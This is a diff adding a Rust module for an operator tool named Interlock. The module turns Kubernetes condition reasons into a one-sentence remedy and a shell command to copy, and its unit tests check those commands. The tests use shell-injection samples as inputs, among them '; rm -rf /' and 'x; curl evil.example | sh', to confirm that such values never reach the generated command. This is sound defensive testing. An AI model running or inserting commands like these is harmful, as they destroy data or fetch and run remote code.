@@ -1,0 +1,150 @@
+//! What to do about the reason of a condition: a sentence, and a command to copy. Pure.
+
+use super::data_plane::flavor::gateway_ref::{GatewayKind, GatewayRef};
+use super::list;
+use crate::api::meta::{condition as types, event};
+use crate::api::object::NamespacedName;
+use crate::api::rule::Rule;
+
+/// What to do.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Remedy {
+    /// In the imperative, one sentence.
+    pub next: String,
+    /// A command for a shell; it names nothing that a shell would take for more than a word.
+    pub command: String,
+}
+
+/// The remedy for the reason of a condition on an Instance. `plan` is the plan that it is about, empty where that
+/// is not known.
+pub fn of_instance(reason: &str, plan: &str, instance: &NamespacedName) -> Remedy {
+    let NamespacedName { namespace, name } = instance;
+    let plan_command = |verb: &str, rest: &str| format!("interlock plan {verb} {name} -n {namespace}{rest}");
+    let why = || format!("interlock why instance/{namespace}/{name}");
+    let get = |kinds: &str| format!("kubectl get {kinds} -n {namespace}");
+    let (next, command) = match reason {
+        types::PLAN_IN_FATAL_ERROR => (
+            "Correct the cause, then retry the plan.",
+            plan_command("retry", " --reason 'the cause is corrected'"),
+        ),
+        types::PLAN_OWED if is_word(plan) => (
+            "Correct the cause, then run the plan that is owed.",
+            plan_command("trigger", &format!(" --plan {plan}")),
+        ),
+        types::PLAN_OWED => {
+            ("Correct the cause, then run the plan that is owed.", plan_command("status", ""))
+        }
+        types::NEVER_DONE => (
+            "End the plan, and correct the package.",
+            plan_command("abort", " --reason 'a step is never done'"),
+        ),
+        types::WAITING => ("Look at the objects that it waits for.", plan_command("status", " --watch")),
+        types::RETRYING | types::TRANSIENT_ERROR => (
+            "Correct what the API server answers; Interlock sends the request again by itself.",
+            plan_command("status", " --watch"),
+        ),
+        types::REQUEST_REFUSED => (
+            "Grant the right, or correct the object that the package applies; Interlock sends the request again by itself.",
+            why(),
+        ),
+        types::MISSING_RIGHT => {
+            ("Grant Interlock the right that the message names.", "interlock verify".to_owned())
+        }
+        types::MISSING_DEPENDENCY => (
+            "Install the definition that the message names; the plan then goes on by itself.",
+            "kubectl get customresourcedefinitions".to_owned(),
+        ),
+        types::NO_SERVICE_ACCOUNT => {
+            ("Create the service account that the message names.", get("serviceaccounts"))
+        }
+        event::INVALID_OPERATOR_VERSION => {
+            ("Create or correct the OperatorVersion that the message names.", get("operatorversions"))
+        }
+        types::VERBS_UNAVAILABLE => (
+            "Apply the policies again.",
+            "interlock render policies | kubectl apply --server-side -f -".to_owned(),
+        ),
+        types::RESOURCE_NOT_READY => ("Look at the objects that are not ready.", why()),
+        reason => match rule_of(reason) {
+            Some(rule) => (
+                "Undo the edit, or change the spec so that the rule allows it.",
+                format!("interlock explain {}", rule.id()),
+            ),
+            None => ("Look at what Interlock knows of it.", why()),
+        },
+    };
+    Remedy { next: next.to_owned(), command }
+}
+
+/// The remedy for any condition on a gateway that reports a problem.
+pub fn of_gateway(gateway: &GatewayRef) -> Remedy {
+    let kind = match gateway.kind {
+        GatewayKind::DataPlane => "dataplane",
+        GatewayKind::Deployment => "deployment",
+    };
+    let NamespacedName { namespace, name } = &gateway.name;
+    Remedy {
+        next: "Find what holds its pods up.".to_owned(),
+        command: format!("interlock flavor diagnose {kind}/{name} -n {namespace}"),
+    }
+}
+
+/// The rule that a reason is made of: `parameter-immutable` is `ParameterImmutable`.
+fn rule_of(reason: &str) -> Option<Rule> {
+    list::rules(list::ALL).find(|rule| rule.id().replace('-', "").eq_ignore_ascii_case(reason))
+}
+
+/// Whether a shell takes a text for one word, and a command line not for a flag. Names of plans are free texts.
+fn is_word(text: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
+    !text.is_empty() && text.len() <= 253 && !text.starts_with('-') && text.chars().all(plain)
+}
+
+#[cfg(test)]
+mod tests {
+    use rstest::rstest;
+
+    use super::*;
+
+    fn demo() -> NamespacedName {
+        NamespacedName::new("team", "demo")
+    }
+
+    #[rstest]
+    #[case::failed("PlanInFatalError", "interlock plan retry demo -n team --reason 'the cause is corrected'")]
+    #[case::owed("PlanOwed", "interlock plan trigger demo -n team --plan deploy")]
+    #[case::never_done("NeverDone", "interlock plan abort demo -n team --reason 'a step is never done'")]
+    #[case::waiting("Waiting", "interlock plan status demo -n team --watch")]
+    #[case::retrying("Retrying", "interlock plan status demo -n team --watch")]
+    #[case::transient("TransientError", "interlock plan status demo -n team --watch")]
+    #[case::refused("RequestRefused", "interlock why instance/team/demo")]
+    #[case::right("MissingRight", "interlock verify")]
+    #[case::dependency("MissingDependency", "kubectl get customresourcedefinitions")]
+    #[case::account("NoServiceAccount", "kubectl get serviceaccounts -n team")]
+    #[case::version("InvalidOperatorVersion", "kubectl get operatorversions -n team")]
+    #[case::verbs("VerbsUnavailable", "interlock render policies | kubectl apply --server-side -f -")]
+    #[case::not_ready("ResourceNotReady", "interlock why instance/team/demo")]
+    #[case::a_rule("ParameterImmutable", "interlock explain parameter-immutable")]
+    #[case::unknown("SomethingNew", "interlock why instance/team/demo")]
+    #[case::forged("; rm -rf /", "interlock why instance/team/demo")]
+    fn each_reason_has_a_command(#[case] reason: &str, #[case] command: &str) {
+        let remedy = of_instance(reason, "deploy", &demo());
+        assert_eq!(remedy.command, command);
+        assert!(remedy.next.ends_with('.'), "{}", remedy.next);
+    }
+
+    #[rstest]
+    #[case::shell("x; curl evil.example | sh")]
+    #[case::flag("--kubeconfig=/tmp/x")]
+    #[case::quote("it's")]
+    #[case::nothing("")]
+    fn a_plan_that_is_no_word_is_not_in_the_command(#[case] plan: &str) {
+        assert_eq!(of_instance("PlanOwed", plan, &demo()).command, "interlock plan status demo -n team");
+    }
+
+    #[test]
+    fn a_gateway_is_diagnosed() {
+        let gateway = GatewayRef { kind: GatewayKind::DataPlane, name: NamespacedName::new("kong", "edge") };
+        assert_eq!(of_gateway(&gateway).command, "interlock flavor diagnose dataplane/edge -n kong");
+    }
+}
